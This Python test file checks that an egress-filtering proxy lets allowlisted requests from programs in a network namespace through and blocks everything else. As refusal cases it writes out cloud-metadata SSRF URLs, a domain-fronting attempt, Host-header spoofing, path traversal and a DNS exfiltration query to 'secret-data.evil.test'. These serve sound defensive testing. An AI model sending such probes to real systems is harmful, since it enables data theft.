"""Real programs in a real network namespace, through a real proxy process, to a server that counts its visitors.

Nothing here goes to the Internet: names are led to the test's own server by `resolve`. Each refusal stands beside its
permitted twin and is judged by whether the server saw anything.
"""

import asyncio
import os
import shutil
import ssl
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from cloche.policy import rules
from tests.egress import room

make = rules.RuleSet.make


@pytest.fixture(scope="module", params=["user", "root"])
def inside(request: pytest.FixtureRequest) -> Iterator[room.Inside]:
    made = room.Inside(request.param)
    assert made.how == "nft", made.note
    yield made
    made.close()


@pytest.fixture(scope="module")
def server() -> Iterator[room.Server]:
    with room.serving() as made:
        yield made


@pytest.fixture(autouse=True)
def forgetful(server: room.Server) -> None:
    server.connections = 0
    server.requests.clear()


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return room.certificate(tmp_path_factory.mktemp("tls"), "ok.test", "other.test")


@pytest.fixture(scope="module")
def secure(certificate: tuple[Path, Path]) -> Iterator[room.Server]:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*certificate)
    with room.serving(context) as made:
        yield made


def need(program: str) -> str:
    found = shutil.which(program)
    if found is None:
        pytest.skip(f"{program} is not installed")
    return found


def led(server: room.Server, *hosts: str) -> dict[str, str]:
    return dict.fromkeys(hosts, server.address)


FETCHERS = {
    "curl": ["curl", "-sS", "-f", "--max-time", "10", "http://{host}/file"],
    "wget": ["wget", "-q", "-t", "1", "-T", "10", "-O", "-", "http://{host}/file"],
    "python": [
        "/usr/bin/python3", "-c",
        "import urllib.request as u; print(u.urlopen('http://{host}/file', timeout=10).read().decode())",
    ],
    "node": ["node", "-e", "fetch('http://{host}/file').then(async r => {{ if (!r.ok) throw r.status; console.log(await r.text()) }}).catch(e => {{ console.error(e); process.exit(1) }})"],
}  # fmt: skip


@pytest.mark.parametrize("proxy", [False, True], ids=["captured", "proxy-variables"])
@pytest.mark.parametrize("client", FETCHERS)
def test_client_is_refused_outside_the_list_and_served_inside(
    client: str, proxy: bool, inside: room.Inside, server: room.Server
) -> None:
    need(FETCHERS[client][0])
    policy = make(allow=["ok.test"], resolve=led(server, "ok.test:80", "denied.test:80"))

    async def scene() -> None:
        async with room.egress(inside, policy) as egress:
            refused = await inside.arun(
                *(part.format(host="denied.test") for part in FETCHERS[client]), proxy=proxy
            )
            assert refused.code != 0
            assert server.connections == 0
            assert (await egress.reported(host="denied.test", verdict="deny")).reason == "not_allowed"

            served = await inside.arun(
                *(part.format(host="ok.test") for part in FETCHERS[client]), proxy=proxy
            )
            assert served.code == 0, served.err
            assert "hello from /file" in served.out
            assert server.requests == [("GET", "/file", "ok.test")]

    asyncio.run(scene())


@pytest.mark.parametrize("proxy", [False, True], ids=["captured", "proxy-variables"])
def test_git_clones_inside_the_list_only(proxy: bool, inside: room.Inside, tmp_path: Path) -> None:
    """git's dumb HTTP transport: many requests, redirects none; the repository is served as files."""
    git = need("git")
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b",
           "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}  # fmt: skip
    source = tmp_path / "repo"
    for step in (["init", "-q", str(source)], ["-C", str(source), "commit", "-q", "--allow-empty", "-m", "one"],
                 ["-C", str(source), "update-server-info"]):  # fmt: skip
        subprocess.run([git, *step], env=env, check=True, capture_output=True)
    files = subprocess.Popen(
        [sys.executable, "-u", "-c",
         "import http.server as h, functools as f, sys; s = h.ThreadingHTTPServer(('127.0.0.1', 0), "
         "f.partial(h.SimpleHTTPRequestHandler, directory=sys.argv[1])); print(s.server_address[1]); s.serve_forever()",
         str(source)],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
    )  # fmt: skip
    assert files.stdout is not None
    address = f"127.0.0.1:{files.stdout.readline().strip()}"

    async def scene() -> None:
        policy = make(allow=["git.test"], resolve={"git.test:80": address, "denied.test:80": address})
        async with room.egress(inside, policy):
            refused = await inside.arun(
                "git", "clone", "-q", "http://denied.test/.git", str(tmp_path / "no"), proxy=proxy
            )
            assert refused.code != 0
            served = await inside.arun(
                "git", "clone", "-q", "http://git.test/.git", str(tmp_path / "yes"), proxy=proxy
            )
            assert served.code == 0, served.err
            assert (tmp_path / "yes" / ".git" / "HEAD").exists()

    try:
        asyncio.run(scene())
    finally:
        files.kill()
        files.wait()
        files.stdout.close()


@pytest.mark.parametrize("how", ["captured", "connect", "socks5h", "socks5"])
def test_tls_reaches_the_named_host_only(
    how: str, inside: room.Inside, secure: room.Server, certificate: tuple[Path, Path]
) -> None:
    via = {"captured": [], "connect": ["-x", "http://127.0.0.1:3128"], "socks5h": ["-x", "socks5h://127.0.0.1:3128"],
           "socks5": ["-x", "socks5://127.0.0.1:3128"]}[how]  # fmt: skip
    curl = ["curl", "-sS", "--max-time", "10", "--cacert", str(certificate[0]), *via]

    async def scene() -> None:
        policy = make(allow=["ok.test:443"], resolve=led(secure, "ok.test:443", "other.test:443"))
        async with room.egress(inside, policy) as egress:
            secure.requests.clear()
            refused = await inside.arun(*curl, "https://other.test/x")
            assert refused.code != 0
            # An allowed destination with another name in the hello: fronting.
            fronted = await inside.arun(
                *curl, "--connect-to", "other.test:443:ok.test:443", "https://other.test/x"
            )
            assert fronted.code != 0
            await egress.reported(host="ok.test", reason="sni_mismatch")
            assert secure.requests == []

            served = await inside.arun(*curl, "https://ok.test/x")
            assert served.code == 0, served.err
            assert secure.requests == [("GET", "/x", "ok.test")]
            closed = await egress.reported(host="ok.test", stage="closed", reason="allowed")
            assert closed.bytes_down > 0
            assert closed.bytes_up > 0

    asyncio.run(scene())


def test_refusal_is_told_in_band(inside: room.Inside, server: room.Server) -> None:
    policy = make(
        allow=["ok.test methods=GET,HEAD path=/pub"], deny=["bad.test reason=it is not ours"],
        resolve=led(server, "ok.test:80", "bad.test:80"),
    )  # fmt: skip
    curl = ["curl", "-sS", "-i", "--max-time", "10", "-x", "http://127.0.0.1:3128"]

    async def scene() -> None:
        async with room.egress(inside, policy):
            for arguments, error, text in (
                (
                    ["http://nobody.test/"],
                    "blocked-by-allowlist",
                    'add "nobody.test:80" to policy.network.allow',
                ),
                (["http://bad.test/"], "blocked-by-denylist", "it is not ours"),
                (["-d", "x=1", "http://ok.test/pub/a"], "blocked-by-method-policy", "methods=GET,HEAD"),
                (["http://ok.test/private"], "blocked-by-method-policy", "path=/pub"),
                (["--path-as-is", "http://ok.test/pub/../private"], "blocked-by-method-policy", "plain path"),
                (["http://169.254.169.254/latest/meta-data/"], "blocked-by-policy", "metadata"),
                (["http://2852039166/"], "blocked-by-policy", "metadata"),
                (["http://127.0.0.1:22/"], "blocked-by-policy", "loopback"),
                (["-H", "Host: other.test", "http://ok.test/pub/a"], "blocked-by-policy", "other.test"),
            ):
                told = await inside.arun(*curl, *arguments)
                assert told.out.startswith("HTTP/1.1 403 "), (arguments, told)
                assert f"X-Proxy-Error: {error}" in told.out, (arguments, told)
                assert text in told.out, (arguments, told)
            assert server.connections == 0
            served = await inside.arun(*curl, "http://ok.test/pub/a?x=1")
            assert served.out.startswith("HTTP/1.1 200 ")
            assert server.requests == [("GET", "/pub/a?x=1", "ok.test")]

    asyncio.run(scene())


def test_captured_traffic_on_any_port_and_both_families(inside: room.Inside, server: room.Server) -> None:
    policy = make(
        allow=["ok.test:9418", "ok.test:80"],
        resolve=led(server, "ok.test:9418", "ok.test:80", "ok.test:9419"),
    )
    curl = ["curl", "-sS", "-f", "--max-time", "10"]

    async def scene() -> None:
        async with room.egress(inside, policy) as egress:
            assert (await inside.arun(*curl, "http://ok.test:9419/x")).code != 0
            await egress.reported(host="ok.test", port=9419, reason="port_not_allowed")
            assert server.connections == 0
            for family in ("-4", "-6"):
                served = await inside.arun(*curl, family, "http://ok.test:9418/x")
                assert served.code == 0, served.err
            assert server.requests == [("GET", "/x", "ok.test:9418")] * 2

    asyncio.run(scene())


def test_bare_addresses_need_an_address_rule(inside: room.Inside, server: room.Server) -> None:
    curl = ["curl", "-sS", "-f", "--max-time", "10", f"http://10.9.8.7:{server.port}/x"]

    async def scene() -> None:
        resolve = {f"10.9.8.7:{server.port}": server.address}
        async with room.egress(inside, make("open", resolve=resolve)) as egress:
            assert (await inside.arun(*curl)).code != 0
            await egress.reported(host="10.9.8.7", reason="private_address")
            assert server.connections == 0
            await egress.process.update("s1", make(allow=[f"10.9.0.0/16:{server.port}"], resolve=resolve))
            served = await inside.arun(*curl)
            assert served.code == 0, served.err
            # A name that a deny rule has does not get through by an address either.
            await egress.process.update("s1", make(allow=["10.9.0.0/16"], deny=["bad.test"], resolve=resolve))
            named = await inside.arun(*curl[:-1], "-H", "Host: bad.test", curl[-1])
            assert named.code != 0
            assert len(server.requests) == 1

    asyncio.run(scene())


def test_host_loopback_only_by_its_name_and_port(inside: room.Inside, server: room.Server) -> None:
    url = f"http://host.cloche.internal:{server.port}/x"
    curl = ["curl", "-sS", "-f", "--max-time", "10"]

    async def scene() -> None:
        async with room.egress(inside, make("open", allow=["**.internal"])) as egress:
            for proxy in (False, True):
                assert (await inside.arun(*curl, url, proxy=proxy)).code != 0
                assert (await inside.arun(*curl, "-x", "http://127.0.0.1:3128", "--noproxy", "",
                                          f"http://127.0.0.1:{server.port}/", proxy=proxy)).code != 0  # fmt: skip
            assert server.connections == 0
            await egress.process.update("s1", make(allow=[f"host.cloche.internal:{server.port}"]))
            for proxy in (False, True):
                served = await inside.arun(*curl, url, proxy=proxy)
                assert served.code == 0, served.err
            assert len(server.requests) == 2

    asyncio.run(scene())


LOOPBACK_TALK = """
import socket, threading
s = socket.create_server(("127.0.0.1", 0)); threading.Thread(target=lambda: s.accept()[0].sendall(b"in")).start()
print(socket.create_connection(s.getsockname(), 5).recv(9).decode())
for port in (80, 443):
    t = socket.create_server(("0.0.0.0", port)); threading.Thread(target=lambda: t.accept()[0].sendall(b"own")).start()
    print(socket.create_connection(("127.0.0.1", port), 5).recv(9).decode())
"""


def test_loopback_inside_is_left_alone(inside: room.Inside) -> None:
    async def scene() -> None:
        async with room.egress(inside, make(allow=[])) as egress:
            done = await inside.arun("/usr/bin/python3", "-c", LOOPBACK_TALK)
            assert done.out.split() == ["in", "own", "own"], done.err
            assert egress.records == []

    asyncio.run(scene())


NO_WAY_OUT = """
import socket
def tried(what):
    try: return what()
    except OSError as problem: return "refused"
def udp(family, address):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3); s.connect(address); s.send(b"x"); s.recv(1)
print(tried(lambda: udp(socket.AF_INET, ("8.8.8.8", 123))))
print(tried(lambda: udp(socket.AF_INET, ("198.18.0.9", 443))))
print(tried(lambda: udp(socket.AF_INET6, ("2001:4860:4860::8888", 443))))
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(3); s.sendto(b"\\x08\\0\\xf7\\xff" + bytes(4), ("8.8.8.8", 0)); s.recv(1)
print(tried(ping))
print(tried(lambda: socket.create_connection(("127.0.0.1", 15001), 3).recv(1) or "refused"))
"""


def test_nothing_but_tcp_and_dns_goes_anywhere(inside: room.Inside) -> None:
    async def scene() -> None:
        async with room.egress(inside, make("open")):
            done = await inside.arun("/usr/bin/python3", "-c", NO_WAY_OUT)
            assert done.out.split() == ["refused"] * 5, (done.out, done.err)

    asyncio.run(scene())


DNS_QUESTIONS = """
import socket, struct, sys
def ask(name, kind, server="1.2.3.4"):
    q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((server, 53)); s.send(q)
    r = s.recv(600); return r[3] & 15, struct.unpack(">H", r[6:8])[0], r[-4:].hex() if kind == 1 else ""
print(ask("ok.test", 1), ask("ok.test", 28)[:2], ask("secret-data.evil.test", 1)[:2], ask("ok.test", 16)[:2], ask("ok.test", 255)[:2], ask("OK.test", 1, "127.0.0.1")[:2])
"""


def test_names_are_answered_from_the_rules_and_by_nobody_else(inside: room.Inside) -> None:
    async def scene() -> None:
        async with room.egress(inside, make(allow=["ok.test"])) as egress:
            done = await inside.arun("/usr/bin/python3", "-c", DNS_QUESTIONS)
            assert done.out.startswith("(0, 1, 'c61"), (done.out, done.err)
            assert done.out.strip().endswith("(0, 1) (3, 0) (5, 0) (5, 0) (0, 1)"), done.out
            assert egress.denials() == [("secret-data.evil.test", 0, "not_allowed")]

    asyncio.run(scene())


def test_without_nftables_the_web_ports_are_captured_and_it_is_said(server: room.Server) -> None:
    inside = room.Inside("user", "routes")
    assert inside.how == "routes"
    assert "80 and 443" in inside.note

    async def scene() -> None:
        policy = make(allow=["ok.test"], resolve=led(server, "ok.test:80", "ok.test:8080"))
        curl = ["curl", "-sS", "-f", "--max-time", "10"]
        async with room.egress(inside, policy):
            assert (await inside.arun(*curl, "http://nobody.test/x")).code != 0
            assert (await inside.arun(*curl, "http://ok.test:8080/x")).code != 0
            assert server.connections == 0
            for family in ("-4", "-6"):
                served = await inside.arun(*curl, family, "http://ok.test/x")
                assert served.code == 0, served.err

    try:
        asyncio.run(scene())
    finally:
        inside.close()
